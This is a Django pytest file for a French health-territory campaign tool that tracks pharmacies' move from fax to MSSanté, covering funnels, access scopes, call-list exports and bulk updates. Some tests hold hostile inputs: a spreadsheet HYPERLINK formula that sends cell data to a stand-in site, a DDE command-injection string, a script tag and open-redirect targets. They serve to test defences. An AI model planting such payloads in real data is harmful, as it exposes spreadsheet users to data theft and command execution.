"""Campaigns: the seeds' starting shares, stage moves seen everywhere at once, access by scope,
the call list and its export, bulk updates by file."""

import csv
import datetime as dt
import io

import pyarrow as pa
import pytest
from django.utils import timezone

from capsante.campaigns import bulk, services
from capsante.campaigns.models import Campaign, Contact, FollowUp, Stage
from capsante.establishments.models import Establishment
from capsante.indicators.models import IndicatorValue
from capsante.ingest.staging import StagingStore
from capsante.ui.testing import table_rows

STAGES = [
    ("sans-mss", "Sans MSSanté"),
    ("boite-mss", "Boîte MSSanté"),
    ("mss-utilisee", "MSSanté utilisée"),
    ("fax-ferme", "Ligne de fax fermée"),
]


@pytest.fixture
def staging(settings, tmp_path):
    settings.STAGING_DIR = tmp_path / "staging"
    return settings.STAGING_DIR


def _officine(n: int, commune, **extra) -> Establishment:
    return Establishment.objects.create(
        finess_et=f"{commune.code[:2]}00000{n:02d}",
        name=f"PHARMACIE {n}",
        category_code="620",
        category_group="officine",
        commune=commune,
        departement_code=commune.code[:2],
        phone=f"02 43 00 00 {n:02d}",
        latitude=47.9,
        longitude=0.1,
        **extra,
    )


def _campaign(territory, slug="zero-fax-72", **extra) -> Campaign:
    campaign = Campaign.objects.create(
        slug=slug,
        name="Zéro fax",
        territory=territory,
        category_groups=["officine"],
        started_on=timezone.localdate().replace(day=1),
        indicator_codes=["CAMPAIGN_ZERO_FAX_CLOSED", "CAMPAIGN_ZERO_FAX_MSS"],
        **extra,
    )
    for order, (code, label) in enumerate(STAGES, start=1):
        Stage.objects.create(campaign=campaign, order=order, code=code, label=label)
    return campaign


def _stage_structures(root) -> None:
    """What a FINESS import stages: the engine places each FINESS in its commune through it."""
    from capsante.ingest.contract import table

    rows = list(Establishment.objects.values_list("finess_et", "commune__code", "category_group"))
    schema = table("structures").schema
    columns = {name: [None] * len(rows) for name in schema.names}
    columns["finess_et"] = [r[0] for r in rows]
    columns["commune_code"] = [r[1] for r in rows]
    columns["category_group"] = [r[2] for r in rows]
    StagingStore(root).write("structures", pa.table(columns, schema=schema))


@pytest.fixture
def zero_fax(geography, staging):
    """Six Sarthe officines: two without MSSanté, three with one, one past the fax; two in Mayenne."""
    communes = geography["communes"]
    sarthe = [_officine(i, communes["72181"] if i < 4 else communes["72154"]) for i in range(1, 7)]
    mayenne = [_officine(i, communes["53130"]) for i in range(7, 9)]
    campaign = _campaign(geography["sarthe"])
    start = {
        s.finess_et: (order, None) for s, order in zip(sarthe, [1, 1, 2, 2, 3, 4], strict=True)
    }
    services.enrol(campaign, start, has_mss={s.finess_et for s in sarthe[2:]})
    other = _campaign(geography["mayenne"], slug="zero-fax-53")
    services.enrol(other)
    _stage_structures(staging)
    return {"campaign": campaign, "sarthe": sarthe, "mayenne": mayenne, "other": other}


@pytest.mark.django_db
def test_funnel_shares_and_the_engine_agree(zero_fax):
    campaign = zero_fax["campaign"]
    funnel = services.funnel(campaign, campaign.followups.all())
    assert [(c.count, c.at_or_past) for c in funnel] == [(2, 6), (2, 4), (1, 2), (1, 1)]
    services.refresh_indicators(campaign)
    period = timezone.localdate().strftime("%Y-%m")
    closed = IndicatorValue.objects.get(
        indicator__code="CAMPAIGN_ZERO_FAX_CLOSED",
        territory=campaign.territory,
        period=period,
        is_current=True,
    )
    assert (closed.numerator, closed.denominator) == (1, 6)
    mss = IndicatorValue.objects.get(
        indicator__code="CAMPAIGN_ZERO_FAX_MSS",
        territory=campaign.territory,
        period=period,
        is_current=True,
    )
    assert (mss.numerator, mss.denominator) == (4, 6)


@pytest.mark.django_db(transaction=True)
def test_moving_an_officine_updates_board_indicator_and_history_at_once(
    zero_fax, personas, client, run_jobs
):
    campaign = zero_fax["campaign"]
    services.refresh_indicators(campaign)
    target = zero_fax["sarthe"][2]
    client.force_login(personas["cpam72_contributor"])
    final = campaign.stages.get(order=4)
    response = client.post(
        f"/campagnes/{campaign.slug}/structures/{target.finess_et}/etape/",
        {
            "stage": final.pk,
            "evidence": "courriel de résiliation du 02/11",
            "note": "",
            "confirm": "on",
        },
    )
    assert response.status_code == 302
    board = client.get(f"/campagnes/{campaign.slug}/").content.decode()
    assert ["4. Ligne de fax fermée", "2", "2", "33,3 %"] in table_rows(
        board, "Structures par étape"
    )
    at_final = f"/campagnes/{campaign.slug}/appels/?stage={final.code}"
    assert f'<a href="{at_final}"' in board  # the count links to the structures behind it
    behind = client.get(at_final).content.decode()
    assert target.name in behind
    # The indicator follows through a background job, queued by the move, run by the worker.
    refreshes = run_jobs()
    assert [(j.kind, j.status) for j in refreshes] == [("campaign", "succeeded")]
    period = timezone.localdate().strftime("%Y-%m")
    closed = IndicatorValue.objects.get(
        indicator__code="CAMPAIGN_ZERO_FAX_CLOSED",
        territory=campaign.territory,
        period=period,
        is_current=True,
    )
    assert (closed.numerator, closed.denominator, closed.version) == (2, 6, 2)
    page = client.get(f"/campagnes/{campaign.slug}/structures/{target.finess_et}/").content.decode()
    assert "courriel de résiliation du 02/11" in page and "David Conseiller" in page
    history = FollowUp.objects.get(campaign=campaign, establishment=target).history.first()
    assert history.history_user == personas["cpam72_contributor"] and history.stage == final


@pytest.mark.django_db
def test_cpam72_contributor_sees_and_updates_sarthe_only_and_contacts_are_audited(
    zero_fax, personas, client
):
    campaign, other = zero_fax["campaign"], zero_fax["other"]
    client.force_login(personas["cpam72_contributor"])
    assert client.get("/campagnes/").content.decode().count('class="fr-card__title') == 1
    assert client.get(f"/campagnes/{other.slug}/").status_code == 404
    mayenne = zero_fax["mayenne"][0]
    assert client.get(f"/campagnes/{other.slug}/structures/{mayenne.finess_et}/").status_code == 404
    assert client.get(f"/etablissements/{mayenne.finess_et}/").status_code == 404
    sarthe = zero_fax["sarthe"][0]
    response = client.post(
        f"/campagnes/{campaign.slug}/structures/{sarthe.finess_et}/contact/",
        {
            "kind": "call",
            "outcome": "call_back",
            "note": "Rappeler le titulaire <script>x</script>",
            "next_step": "rappel",
            "next_date": "2026-12-01",
        },
    )
    assert response.status_code == 302
    contact = Contact.objects.get()
    assert contact.user == personas["cpam72_contributor"]
    assert contact.history.get().history_user == personas["cpam72_contributor"]
    page = client.get(f"/etablissements/{sarthe.finess_et}/").content.decode()
    assert "Rappeler le titulaire &lt;script&gt;" in page and "<script>x</script>" not in page
    client.force_login(personas["elected_reader"])
    assert client.get(f"/campagnes/{campaign.slug}/").status_code == 200
    assert (
        client.get(f"/campagnes/{campaign.slug}/structures/{sarthe.finess_et}/").status_code == 403
    )


@pytest.mark.django_db
def test_call_list_puts_the_most_urgent_first_and_exports_exactly_the_filtered_rows(
    zero_fax, personas, client
):
    campaign = zero_fax["campaign"]
    first, second = zero_fax["sarthe"][0], zero_fax["sarthe"][1]
    FollowUp.objects.filter(establishment=second).update(last_contact_at=timezone.now())
    FollowUp.objects.filter(establishment=zero_fax["sarthe"][4]).update(deadline="2026-01-26")
    client.force_login(personas["cpam72_contributor"])
    page = client.get(f"/campagnes/{campaign.slug}/appels/").content.decode()
    order = [s.name for s in zero_fax["sarthe"] if s.name in page]
    positions = sorted(order, key=page.index)
    # Nearest deadline first, then no MSSanté, then never contacted before contacted.
    assert positions[:3] == [zero_fax["sarthe"][4].name, first.name, second.name]
    assert zero_fax["sarthe"][5].name not in page  # at the final stage
    exported = client.get(
        f"/campagnes/{campaign.slug}/appels/?stage=sans-mss&format=csv"
    ).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported), delimiter=";"))
    assert rows[0][:2] == ["finess", "structure"]
    assert sorted(r[0] for r in rows[1:]) == sorted([first.finess_et, second.finess_et])
    assert all(r[8] == "Sans MSSanté" for r in rows[1:])


def _csv(text: str) -> bytes:
    return text.encode("utf-8")


@pytest.mark.django_db
def test_bulk_update_checks_everything_first_and_lands_whole(zero_fax, personas, tmp_path):
    campaign = zero_fax["campaign"]
    a, b = zero_fax["sarthe"][0], zero_fax["sarthe"][1]
    bad = tmp_path / "maj.csv"
    bad.write_bytes(
        _csv(
            f"finess;etape;justificatif\n{a.finess_et};boite-mss;adresse\n{b.finess_et};etape-inconnue;\n"
            f"{zero_fax['mayenne'][0].finess_et};2;\n"
        )
    )
    result = bulk.apply(campaign, bad, personas["cpam72_contributor"])
    assert [(e.line, e.column) for e in result.errors] == [(3, "etape"), (4, "finess")]
    assert "étape inconnue" in result.errors[0].reason
    assert FollowUp.objects.get(campaign=campaign, establishment=a).stage.order == 1
    good = tmp_path / "maj-ok.csv"
    good.write_bytes(
        f"finess,étape,justificatif\n{a.finess_et},boite-mss,adresse MSSanté\n{b.finess_et},1,\n".encode(
            "latin-1"
        )
    )
    dry = bulk.apply(campaign, good, personas["cpam72_contributor"], dry_run=True)
    assert (len(dry.changes), dry.unchanged) == (1, 1)
    assert FollowUp.objects.get(campaign=campaign, establishment=a).stage.order == 1
    done = bulk.apply(campaign, good, personas["cpam72_contributor"])
    assert done.ok and FollowUp.objects.get(campaign=campaign, establishment=a).stage.order == 2


@pytest.mark.django_db
def test_status_export_reconstructs_each_month_from_the_history(zero_fax):
    campaign = zero_fax["campaign"]
    table = services.status_table(campaign)
    assert table.num_rows == 6
    assert set(table.column("campaign").to_pylist()) == {campaign.slug}
    assert sorted(table.column("stage_order").to_pylist()) == [1, 1, 2, 2, 3, 4]
    assert isinstance(table, pa.Table)


@pytest.mark.django_db
def test_each_enrolled_structure_enters_at_the_first_stage_then_reaches_its_own(geography):
    """The monthly series read the history: every structure counts from the campaign's start,
    at the first stage, then at its starting stage from the day it was known there."""
    campaign = _campaign(geography["sarthe"])
    opened = timezone.make_aware(dt.datetime.combine(campaign.started_on, dt.time.min))
    surveyed = opened + dt.timedelta(days=3, hours=9)
    first, at_box, past_fax = (
        _officine(1, geography["communes"]["72181"]),
        *[_officine(n, geography["communes"]["72154"]) for n in (2, 3)],
    )
    start = {at_box.finess_et: (2, surveyed), past_fax.finess_et: (4, None)}
    before = timezone.now()

    assert services.enrol(campaign, start) == 3

    def records(structure):
        followup = FollowUp.objects.get(campaign=campaign, establishment=structure)
        return [
            (h.history_type, h.stage.code, h.history_date)
            for h in followup.history.order_by("history_date")
        ]

    assert records(first) == [("+", "sans-mss", opened)]
    assert records(at_box) == [("+", "sans-mss", opened), ("~", "boite-mss", surveyed)]
    (entered, reached) = records(past_fax)
    assert entered == ("+", "sans-mss", opened)
    assert reached[:2] == ("~", "fax-ferme") and reached[2] >= before
    assert FollowUp.objects.get(establishment=past_fax).stage.code == "fax-ferme"
    # Enrolling again adds no structure and no record.
    assert services.enrol(campaign, start) == 0
    assert FollowUp.history.filter(campaign_id=campaign.pk).count() == 5


@pytest.mark.django_db
def test_a_regional_board_shows_an_adviser_the_indicators_of_the_structures_they_see(
    geography, staging, personas, client
):
    """A Sarthe adviser sees Sarthe's structures on a regional campaign: the monthly shares
    beside that funnel are Sarthe's, not the région's."""
    communes = geography["communes"]
    sarthe = [_officine(i, communes["72181"]) for i in range(1, 7)]
    mayenne = [_officine(i, communes["53130"]) for i in range(7, 9)]
    campaign = _campaign(geography["region"], slug="zero-fax-52")
    start = {
        s.finess_et: (order, None) for s, order in zip(sarthe, [1, 1, 2, 2, 3, 4], strict=True)
    }
    start |= {s.finess_et: (4, None) for s in mayenne}
    services.enrol(campaign, start)
    _stage_structures(staging)
    services.refresh_indicators(campaign)
    caption = "Part des structures à chaque étape, calculée chaque mois par le moteur d’indicateurs"

    closed = "Zéro fax : officines ayant fermé leur ligne de fax"

    def closed_share(persona: str, territory: str) -> str:
        client.force_login(personas[persona])
        board = client.get(f"/campagnes/{campaign.slug}/").content.decode()
        (row,) = [r for r in table_rows(board, f"{caption} : {territory}") if r[0] == closed]
        return row[1]

    assert closed_share("cpam72_contributor", "Sarthe") == "16,7 %"  # 1 of Sarthe's 6
    assert closed_share("ars_admin", "Pays de la Loire") == "37,5 %"  # 3 of the région's 8


@pytest.mark.django_db
def test_per_commune_deadlines_from_a_file_reorder_the_call_list(zero_fax, tmp_path, capsys):
    from django.core.management import call_command
    from django.core.management.base import CommandError

    campaign = zero_fax["campaign"]
    bad = tmp_path / "coupure-cuivre.csv"
    bad.write_text(
        "code_commune;date\n72154;2026-03-31\n53130;2026-01-26\n72181;31/13/2026\n",
        encoding="utf-8",
    )
    with pytest.raises(CommandError):
        call_command("campaign", "deadlines", campaign.slug, str(bad))
    err = capsys.readouterr().err
    assert "ligne 3, colonne « code_commune » : commune 53130 hors du territoire" in err
    assert "ligne 4, colonne « date »" in err
    assert not FollowUp.objects.filter(campaign=campaign, deadline__isnull=False).exists()
    good = tmp_path / "coupure-cuivre-ok.csv"
    good.write_text("code_commune;date\n72154;2026-03-31\n", encoding="utf-8")
    call_command("campaign", "deadlines", campaign.slug, str(good))
    la_fleche = {s.pk for s in zero_fax["sarthe"][3:]}
    assert {
        f.establishment_id
        for f in FollowUp.objects.filter(campaign=campaign, deadline="2026-03-31")
    } == la_fleche
    first = services.call_list(campaign, campaign.followups.all()).first()
    assert first.establishment_id in la_fleche


@pytest.mark.django_db
def test_committee_report_progress_reads_the_past_from_the_history(zero_fax, personas):
    import datetime as dt

    campaign = zero_fax["campaign"]
    before = timezone.localdate() - dt.timedelta(days=1)
    FollowUp.history.filter(campaign_id=campaign.pk).update(
        history_date=timezone.now() - dt.timedelta(days=10)
    )
    target = FollowUp.objects.get(campaign=campaign, establishment=zero_fax["sarthe"][2])
    services.move(
        target,
        campaign.stages.get(order=4),
        personas["cpam72_contributor"],
        "courriel de résiliation de la ligne",
        refresh=False,
    )
    rows = {
        r["Campagne"]: r
        for r in services.campaigns_progress(campaign.territory, before, timezone.localdate())
    }
    row = rows[campaign.name]
    assert (row["Structures suivies"], row["Au début"], row["À la fin"], row["Progression"]) == (
        6,
        "1 (16,7\u00a0%)",  # the sign kept with its number when a narrow cell wraps
        "2 (33,3\u00a0%)",
        1,
    )
    assert "Zéro fax" in rows and len(rows) == 1  # the Mayenne campaign does not meet the Sarthe


HOSTILE_NAME = '=HYPERLINK("https://faux-site.example/?"&A1,"Cliquez ici")'


@pytest.mark.django_db
def test_call_list_exports_show_hostile_texts_without_running_them(zero_fax, personas, client):
    """A name or address read from an imported file opens as text in the adviser's spreadsheet,
    and a control character in it does not break the download."""
    first, second = zero_fax["sarthe"][0], zero_fax["sarthe"][1]
    Establishment.objects.filter(pk=first.pk).update(
        name=HOSTILE_NAME, address="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    Establishment.objects.filter(pk=second.pk).update(
        name="PHARMACIE\x0bDU\x1fCENTRE", phone="-2+3"
    )
    client.force_login(personas["cpam72_contributor"])
    url = f"/campagnes/{zero_fax['campaign'].slug}/appels/?stage=sans-mss&format="

    exported = client.get(url + "csv").content.decode("utf-8-sig")
    rows = {r[0]: r for r in csv.reader(io.StringIO(exported), delimiter=";")}
    assert rows[first.finess_et][1] == "'" + HOSTILE_NAME
    assert rows[first.finess_et][4] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[second.finess_et][1] == "PHARMACIE\nDUCENTRE"
    assert rows[second.finess_et][6] == "'-2+3"

    from openpyxl import load_workbook

    response = client.get(url + "xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["Données"]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    name = cells[first.finess_et][1]
    # Shown exactly as written, stored as text behind Excel's own apostrophe, never a formula.
    assert (name.value, name.data_type, name.quotePrefix) == (HOSTILE_NAME, "s", True)
    assert cells[second.finess_et][1].value == "PHARMACIE\nDUCENTRE"


@pytest.mark.django_db
def test_logging_a_contact_only_returns_to_a_page_of_the_platform(zero_fax, personas, client):
    campaign, officine = zero_fax["campaign"], zero_fax["sarthe"][0]
    client.force_login(personas["cpam72_contributor"])
    url = f"/campagnes/{campaign.slug}/structures/{officine.finess_et}/contact/"
    followup = f"/campagnes/{campaign.slug}/structures/{officine.finess_et}/"
    calls = f"/campagnes/{campaign.slug}/appels/?stage=sans-mss&page=2"
    form = {"kind": "call", "outcome": "call_back", "note": "", "next_step": "", "next_date": ""}
    for target, expected in [
        ("https://faux-site.example/connexion/", followup),
        ("//faux-site.example/", followup),
        ("javascript:alert(1)", followup),
        (calls, calls),
    ]:
        response = client.post(url, {**form, "next": target})
        assert (response.status_code, response["Location"]) == (302, expected), target


@pytest.mark.django_db
def test_a_pharmacy_moved_to_an_mssante_stage_leaves_the_without_mssante_list(
    zero_fax, personas, client
):
    campaign = zero_fax["campaign"]
    for order, (code, _) in enumerate(STAGES, start=1):
        campaign.stages.filter(order=order).update(mss_equipped=code != "sans-mss")
    pharmacy = zero_fax["sarthe"][0]  # without MSSanté at the start
    calls = f"/campagnes/{campaign.slug}/appels/?no_mss=on"
    client.force_login(personas["cpam72_contributor"])
    assert pharmacy.name in client.get(calls).content.decode()
    response = client.post(
        f"/campagnes/{campaign.slug}/structures/{pharmacy.finess_et}/etape/",
        {
            "stage": campaign.stages.get(order=2).pk,
            "evidence": "pharmacie.centre@pharmacien.mssante.fr",
            "note": "",
        },
    )
    assert response.status_code == 302
    assert FollowUp.objects.get(campaign=campaign, establishment=pharmacy).has_mss is True
    client.get(calls)  # shows, once, the message naming the pharmacy
    listing = client.get(calls).content.decode()
    assert pharmacy.name not in listing


@pytest.mark.django_db
def test_a_committee_counts_a_regional_campaign_on_the_structures_of_its_territory(
    zero_fax, geography
):
    """A campaign of the région, in the Sarthe's and the Mayenne's committee reports: each
    counts its own officines (six and two) and says whose they are; the région's report counts
    all eight under the campaign's name."""
    import datetime as dt

    regional = _campaign(geography["region"], slug="zero-fax-52")
    Campaign.objects.filter(pk=regional.pk).update(name="Zéro fax régional")
    services.enrol(regional, {s.finess_et: (4, None) for s in zero_fax["mayenne"][:1]})
    today = timezone.localdate()

    def rows(territory):
        found = services.campaigns_progress(territory, today - dt.timedelta(days=1), today)
        return {r["Campagne"]: (r["Structures suivies"], r["À la fin"]) for r in found}

    assert rows(geography["region"])["Zéro fax régional"] == (8, "1 (12,5\u00a0%)")
    sarthe = rows(geography["sarthe"])
    assert sarthe["Zéro fax régional (structures de la Sarthe)"] == (6, "0 (0,0\u00a0%)")
    assert sarthe["Zéro fax"][0] == 6  # the Sarthe's own campaign, whole
    mayenne = rows(geography["mayenne"])
    assert mayenne["Zéro fax régional (structures de la Mayenne)"] == (2, "1 (50,0\u00a0%)")
